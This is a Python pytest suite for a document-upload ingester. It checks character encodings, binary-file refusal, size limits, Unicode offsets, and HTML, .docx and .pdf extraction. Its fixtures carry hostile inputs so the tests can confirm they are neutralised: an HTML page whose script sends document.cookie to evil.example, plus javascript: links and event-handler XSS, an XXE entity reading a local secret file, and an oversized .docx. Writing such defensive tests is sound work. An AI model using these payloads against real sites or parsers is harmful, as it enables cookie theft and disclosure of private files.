"""Uploads: encodings, binary files, hostile HTML, .docx and .pdf, limits and their messages."""

from __future__ import annotations

import io
import zipfile

import pytest

from placeline.errors import InputError
from placeline.ingest import files as files_module
from placeline.ingest.files import document_from_upload
from placeline.ingest.html import document_from_html
from placeline.ingest.text import decode_text_bytes
from placeline.pipeline import analyze
from placeline.settings import Settings

GERMAN = "Grüße aus München: „Wir stehen vor einer Verständigung“, sagte Rybakow – Kosten 5 €.\n"
UMLAUTS = "Äpfel, Öfen und Übermut; süß, schön, größer als Köln."


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "utf-32"]
)
def test_text_upload_decodes_exactly(encoding):
    document = document_from_upload("artikel.txt", GERMAN.encode(encoding))
    assert document.text == GERMAN
    assert document.title == "artikel"


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "iso8859-15", "mac_roman", "cp850"])
def test_umlauts_survive_single_byte_encodings(encoding):
    text = UMLAUTS + " Die Gespräche über Aleppo gehen weiter, hieß es in Genf."
    assert document_from_upload("a.txt", text.encode(encoding)).text == text


def test_utf16_without_bom_is_recognised():
    for codec in ("utf-16-le", "utf-16-be"):
        assert decode_text_bytes(UMLAUTS.encode(codec)) == UMLAUTS


def test_declared_latin1_is_read_as_windows_1252():
    data = "„Zitat“ – 5 €".encode("cp1252")
    assert decode_text_bytes(data, declared_charset="ISO-8859-1") == "„Zitat“ – 5 €"


def test_undecodable_bytes_are_refused_not_garbled():
    noise = bytes(range(0x80, 0x100)) * 4
    with pytest.raises(InputError, match="cannot tell which character encoding"):
        document_from_upload("noise.txt", noise)


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("photo.txt", b"\x89PNG\r\n\x1a\n" + b"\x00" * 50, "PNG image"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 50, "JPEG image"),
        ("notes.txt", b"hello\x00world\x00\x01\x02", "binary data"),
        ("archive.md", b"PK\x03\x04" + b"\x00" * 50, "ZIP archive"),
        ("report.txt", b"%PDF-1.4\n%\xe2\xe3", "PDF document"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 50, ".doc"),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00", "cannot read"),
        ("table.xlsx", b"a,b,c\n1,2,3\n", "cannot read"),
        ("fake.docx", b"just some text", "not a Word .docx"),
        ("fake.pdf", b"just some text", "not a PDF"),
        ("control.txt", bytes(range(1, 32)) * 20, "binary data"),
    ],
)
def test_non_text_files_are_refused_with_a_message(name, data, words):
    with pytest.raises(InputError) as caught:
        document_from_upload(name, data)
    assert words in str(caught.value)
    assert name in str(caught.value)
    assert "\n" not in str(caught.value)


def test_empty_and_oversized_files():
    with pytest.raises(InputError, match="is empty"):
        document_from_upload("a.txt", b"")
    with pytest.raises(InputError, match="is empty"):
        document_from_upload("a.txt", b"  \n\t ")
    with pytest.raises(InputError, match="the limit is"):
        document_from_upload("a.txt", b"x" * 2000, settings=Settings(max_fetch_bytes=1000))
    with pytest.raises(InputError, match="characters; the limit"):
        document_from_upload("a.txt", b"x" * 2000, settings=Settings(max_text_chars=1000))


def test_tricky_unicode_is_kept_exactly_and_offsets_index_it():
    text = (
        "Bell\x07 and form\x0cfeed. \u200fמלחמה\u200e in Aleppo, cafe\u0301 in Hamburg 🇸🇾👩‍👩‍👧. "
        "Am 7. Dezember 2016 sagte Kerry: „Wir sind hoffnungsvoll.“\r\nZ\u0308u\u0308rich."
    )
    document = document_from_upload("tricky.txt", text.encode("utf-8"))
    assert document.text == text
    analysis = analyze(document)
    spans = [m for p in analysis.places for m in p.mentions] + list(analysis.unresolved)
    spans += list(analysis.dates) + [e.evidence for e in analysis.events]
    spans += [e.quote for e in analysis.events if e.quote is not None]
    for span in spans:
        assert text[span.start : span.end] == span.text


HOSTILE_HTML = """<!DOCTYPE html><html><head><meta charset="windows-1252">
<title>Kämpfe in Aleppo</title>
<meta name="date" content="2016-12-07">
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<style>.x{background:url(javascript:alert(1))}</style></head>
<body onload="alert('load')"><article>
<p>In Aleppo gehen die Kämpfe weiter.<img src=x onerror="alert('img')"> Die Vereinten Nationen
fordern eine Waffenruhe für die Zivilisten in der umkämpften Stadt im Norden Syriens.</p>
<p onclick="steal()">Außenminister Lawrow und Kerry trafen sich in Hamburg am Rande der
OSZE-Konferenz, um über die Lage zu sprechen.<a href="javascript:alert(2)">mehr</a></p>
<noscript><iframe src="https://evil.example/frame"></iframe></noscript>
<!-- <script>alert('comment')</script> -->
</article></body></html>"""


def test_html_upload_keeps_only_text():
    document = document_from_upload("seite.html", HOSTILE_HTML.encode("cp1252"))
    assert "Die Vereinten Nationen" in document.text
    assert "Außenminister Lawrow" in document.text  # cp1252 declared in <meta charset>
    for hostile in ("alert", "evil.example", "cookie", "steal", "javascript", "<", "background"):
        assert hostile not in document.text
    assert document.title == "Kämpfe in Aleppo"
    assert str(document.published) == "2016-12-07"
    assert document.published_source == "metadata"


def test_short_html_falls_back_to_visible_text_without_scripts():
    html = (
        "<html><body><p>Kurz: <b>Aleppo</b> bleibt umkämpft.</p>"
        "<script>alert(1)</script><p onmouseover='x()'>Zweiter Satz.</p></body></html>"
    )
    document = document_from_html(html)
    assert document.text == "Kurz: Aleppo bleibt umkämpft.\n\nZweiter Satz."
    assert document.published is None


def test_html_without_text_is_refused():
    with pytest.raises(InputError, match="no article text"):
        document_from_upload("leer.htm", b"<html><body><script>alert(1)</script></body></html>")


def test_html_detected_by_content_when_name_has_no_extension():
    data = b"<!DOCTYPE html><html><body><p>Hamburg im Dezember.</p></body></html>"
    assert document_from_upload("download", data).text == "Hamburg im Dezember."


def _docx(paragraphs: list[str], *, title: str | None = None, body_prefix: str = "") -> bytes:
    ns = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>' for text in paragraphs
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?>{body_prefix}<w:document {ns}><w:body>{body}'
            "</w:body></w:document>",
        )
        if title:
            archive.writestr(
                "docProps/core.xml",
                '<cp:coreProperties xmlns:cp="x" xmlns:dc="http://purl.org/dc/elements/1.1/">'
                f"<dc:title>{title}</dc:title></cp:coreProperties>",
            )
    return buffer.getvalue()


def test_docx_paragraphs_and_title():
    data = _docx(["Grüße aus Köln.", "Kerry sprach in Hamburg über Aleppo."], title="Bericht")
    document = document_from_upload("bericht.docx", data)
    assert document.text == "Grüße aus Köln.\n\nKerry sprach in Hamburg über Aleppo."
    assert document.title == "Bericht"


def test_docx_entities_are_not_resolved(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET", encoding="utf-8")
    doctype = f'<!DOCTYPE w [<!ENTITY secret SYSTEM "{secret.as_uri()}">]>'
    data = _docx(["Vorher &secret; nachher."], body_prefix=doctype)
    document = document_from_upload("xxe.docx", data)
    assert "TOPSECRET" not in document.text
    assert "Vorher" in document.text


def test_docx_that_unpacks_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(files_module, "_MAX_DOCX_XML_BYTES", 1000)
    with pytest.raises(InputError, match="too large to read once unpacked"):
        document_from_upload("bombe.docx", _docx(["a" * 5000]))


def _pdf(lines: list[str], *, title: str | None = None) -> bytes:
    """A minimal one-page PDF with a WinAnsi text layer, written by hand."""
    content = "BT /F1 12 Tf 72 720 Td " + " ".join(f"({line}) Tj 0 -16 Td" for line in lines)
    content += " ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            "/Resources << /Font << /F1 5 0 R >> >> >>"
        ),
        f"<< /Length {len(content.encode('cp1252'))} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    if title:
        objects.append(f"<< /Title ({title}) >>")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("cp1252"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    info = f" /Info {len(objects)} 0 R" if title else ""
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R{info} >>\n"
        f"startxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def test_pdf_text_layer_and_title():
    data = _pdf(
        ["Kerry sprach in Hamburg mit Lawrow.", "Die Lage in Aleppo ist ernst."], title="Lage"
    )
    document = document_from_upload("lage.pdf", data)
    assert "Kerry sprach in Hamburg mit Lawrow." in document.text
    assert "Die Lage in Aleppo ist ernst." in document.text
    assert document.title == "Lage"


def test_pdf_without_text_layer_or_damaged():
    with pytest.raises(InputError, match="no text layer"):
        document_from_upload("scan.pdf", _pdf([]))
    with pytest.raises(InputError, match="damaged or unreadable PDF"):
        document_from_upload("kaputt.pdf", b"%PDF-1.4\n" + b"garbage " * 50)
